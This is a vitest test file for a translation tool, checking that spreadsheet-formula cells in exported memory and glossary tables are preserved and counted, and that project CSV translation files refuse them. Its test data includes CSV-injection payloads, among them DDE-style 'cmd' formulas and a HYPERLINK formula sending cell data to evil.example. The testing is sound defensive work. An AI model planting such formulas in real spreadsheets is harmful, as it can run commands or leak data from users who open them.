/**
 * Cells that a spreadsheet runs, in each table that goes out. Tables of memories, glossaries and lists keep every text as it
 * is, so that it comes back the same, and say how many cells begin so. A table that is a translation file of the project
 * leaves such a text out, and names it.
 */
import { expect, it } from 'vitest'
import { emptyConcept, emptyTerm } from '../../core/glossary/conceptDraft.ts'
import { glossaryTableHead, glossaryTableRows, readGlossaryTable } from '../../core/glossary/table.ts'
import type { GlossaryConcept } from '../../core/glossary/rows/exchange.ts'
import { memoryTableHead, memoryTableRows, readMemoryTable } from '../../core/memory/table.ts'
import type { MemoryUnit } from '../../core/memory/rows/exchange.ts'
import { doJob } from '../../core/parsing/job.ts'
import { english, fileOf, ukrainian } from '../formats/support.ts'

const CELLS = [
  '=1+1',
  '+1+cmd|x!A0',
  '-1+cmd|x!A0',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '=HYPERLINK("http://evil.example?"&A1,"here")',
  '＝1+1',
]
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text)

it.each(CELLS)('a memory as a table keeps %j and counts it', (cell) => {
  const record = (language: string, text: string): MemoryUnit[number] => ({
    ...{ language, text, usageCount: 0, createdBy: null, updatedBy: null, createdAt: null, updatedAt: null },
  })
  const unit: MemoryUnit = [record('en', 'Sum'), record('uk', cell)]
  const counts = { formulas: 0 }
  const table = memoryTableHead(['en', 'uk']) + memoryTableRows(unit, ['en', 'uk'], counts)
  expect(counts.formulas).toBe(1)
  const read: MemoryUnit[] = []
  readMemoryTable(bytes(table), { name: 'tm.csv' }, (one) => read.push(one))
  expect(read).toEqual([unit])
})

it.each(CELLS)('a glossary as a table keeps %j and counts it', (cell) => {
  const concept: GlossaryConcept = {
    ...emptyConcept(),
    terms: [
      { ...emptyTerm('en', 'Sum'), note: cell },
      { ...emptyTerm('uk', 'Сума'), description: cell },
    ],
  }
  const counts = { formulas: 0 }
  const table = glossaryTableHead(['en', 'uk']) + glossaryTableRows(concept, 1, ['en', 'uk'], counts)
  expect(counts.formulas).toBe(2)
  const read: GlossaryConcept[] = []
  readGlossaryTable(bytes(table), { name: 'terms.csv', columns: undefined }, (one) => read.push(one))
  expect(read.map(({ terms }) => terms.map(({ note, description }) => note ?? description))).toEqual([
    [cell, cell],
  ])
})

it.each(
  CELLS.flatMap((cell) => [
    ['csv', 'key,en,uk\na,Sum,\nb,Other,\n', cell] as const,
    ['csv_pairs', '"a","Sum"\n"b","Other"\n', cell] as const,
  ]),
)('a %s file of the project leaves such a translation out: %j %j', (type, content, cell) => {
  const file = fileOf('en_US.csv', content)
  const { parsed } = doJob({ kind: 'parse', file, type, options: { sourceLanguage: english } })
  const [first, second] = parsed.strings.map(({ identifier }) => identifier)
  const translations = new Map([
    [first ?? '', { text: cell }],
    [second ?? '', { text: 'Інше' }],
  ])
  const options = { sourceLanguage: english, targetLanguage: ukrainian, translations }
  const { content: built, refused } = doJob({ kind: 'build', file, type, options })
  expect(refused).toEqual([{ identifier: first, reason: 'formula' }])
  expect(new TextDecoder().decode(built)).toContain('Інше')
})
